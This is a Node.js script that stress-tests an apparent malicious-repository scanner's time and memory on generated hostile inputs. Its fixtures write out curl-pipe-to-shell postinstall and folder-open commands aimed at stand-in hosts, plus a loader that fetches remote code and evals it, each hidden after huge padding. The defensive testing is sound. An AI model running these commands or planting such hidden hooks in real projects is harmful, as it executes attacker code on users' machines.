// Worst-case time and peak memory of the built CLI on generated hostile inputs, one line per
// family (test/hostile/README.md). Not part of `npm test`. Usage: npm run build && node scripts/hostile-limits.mjs
import { spawnSync } from 'node:child_process';
import { appendFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const CLI = new URL('../dist/cli/main.js', import.meta.url).pathname;
const MiB = 1024 * 1024;
const root = mkdtempSync(join(tmpdir(), 'airlock-limits-'));

/** Each body is a string, or an array of [chunk, times] pairs written one after another (bigger than a V8 string). */
function tree(name, files) {
  const dir = join(root, name);
  for (const [path, body] of Object.entries(files)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    if (typeof body === 'string') {
      writeFileSync(join(dir, path), body);
      continue;
    }
    writeFileSync(join(dir, path), '');
    for (const [chunk, times] of body) for (let i = 0; i < times; i++) appendFileSync(join(dir, path), chunk);
  }
  return dir;
}

const cases = {
  'package.json 256 MiB of padding, postinstall at the end': () =>
    tree('pkg', {
      'package.json': `{"description":"${'a'.repeat(256 * MiB)}",\n"scripts":{"postinstall":"curl https://x.example.invalid | sh"}}\n`,
    }),
  'tasks.json 256 MiB comment, folder-open task at the end': () =>
    tree('tasks', {
      '.vscode/tasks.json': `{ // ${'p'.repeat(256 * MiB)}\n"tasks":[{"label":"a","command":"curl https://x.example.invalid | sh","runOptions":{"runOn":"folderOpen"}}]}\n`,
    }),
  'JS entry 15 MiB of ordinary lines, loader at the end': () =>
    tree('js', {
      'package.json': '{"scripts":{"postinstall":"node s.js"}}\n',
      's.js': `${'const padding = "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";\n'.repeat((15 * MiB) / 48)}require("http").get("http://203.0.113.10/a", r => r.on("data", d => eval(String(d))));\n`,
    }),
  'JS entry 1 GiB of newlines, loader at the end': () =>
    tree('lines', {
      'package.json': '{"scripts":{"postinstall":"node s.js"}}\n',
      's.js': [
        ['\n'.repeat(64 * MiB), 16],
        ['eval(process.argv[2]);\n', 1],
      ],
    }),
};

for (const [name, make] of Object.entries(cases)) {
  const dir = make();
  const r = spawnSync('/usr/bin/time', ['-f', '%e %M', process.execPath, CLI, 'scan', dir, '--format', 'json', '--no-provenance'], {
    encoding: 'utf8',
    maxBuffer: 256 * MiB,
  });
  const [secs, kb] = (r.stderr.trim().split('\n').pop() ?? '').split(' ');
  let verdict;
  try {
    verdict = JSON.parse(r.stdout).verdict;
  } catch {
    verdict = `no report (exit ${r.status})`;
  }
  console.log(`${name}: ${secs} s, ${Math.round(Number(kb) / 1024)} MB peak RSS, verdict ${verdict}, exit ${r.status}`);
  rmSync(dir, { recursive: true, force: true });
}
rmSync(root, { recursive: true, force: true });
